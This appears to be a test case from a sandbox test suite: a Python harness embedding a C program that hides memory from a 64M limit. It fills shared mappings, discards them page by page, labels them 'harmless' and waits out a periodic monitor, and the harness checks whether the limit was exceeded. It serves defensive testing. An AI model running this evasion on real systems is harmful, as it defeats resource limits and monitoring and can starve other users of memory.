"""Hides memory from its limit: shared memory without a name, filled and then unmapped page by page, is in no process's size.

layer: limits
control: without a sandbox it gets it
"""
OPTIONS = ["--memory", "64M"]
C = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	const size_t size = 8 << 20;
	size_t held = 0;

	fprintf(stderr, "[attack began]\n");

	for (int i = 0; i < 32; i++) {
		int fd = i % 2 ? open("/dev/zero", O_RDWR) : -1;
		char *p = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | (fd < 0 ? MAP_ANONYMOUS : 0), fd, 0);

		if (p == MAP_FAILED)
			break;
		for (size_t at = 0; at < size; at += 1 << 20) {
			memset(p + at, 1, 1 << 20);
			madvise(p + at, 1 << 20, MADV_DONTNEED);
		}
		prctl(PR_SET_VMA, PR_SET_VMA_ANON_NAME, p, size, "harmless");
		mprotect(p, 4096, PROT_READ);
		held += size;
		if (fd >= 0)
			close(fd);
	}
	sleep(argc > 1 ? (unsigned)atoi(argv[1]) : 0);	/* somebody looks each two seconds, and when the machine's memory rises */
	printf("held: %zu MiB\n", held >> 20);
	return 0;
}
"""


def scene(s):
    s.argv = ["0" if s.control else "3"]


def escaped(s, r):
    return "held:" in r.out and int(r.out.split("held:")[1].split()[0]) > 160
